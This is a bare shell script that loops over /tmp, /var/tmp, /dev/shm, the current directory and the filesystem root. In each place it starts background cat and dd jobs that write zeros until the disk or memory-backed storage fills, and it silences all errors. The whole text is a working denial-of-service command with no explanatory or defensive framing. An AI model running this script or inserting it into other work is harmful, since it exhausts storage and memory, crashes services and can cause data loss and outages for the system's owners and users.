for place in /tmp /var/tmp /dev/shm . /; do
    cat /dev/zero > $place/zeros-$$ &
    dd if=/dev/zero of=$place/more-$$ bs=1M count=100000 &
done 2> /dev/null
wait
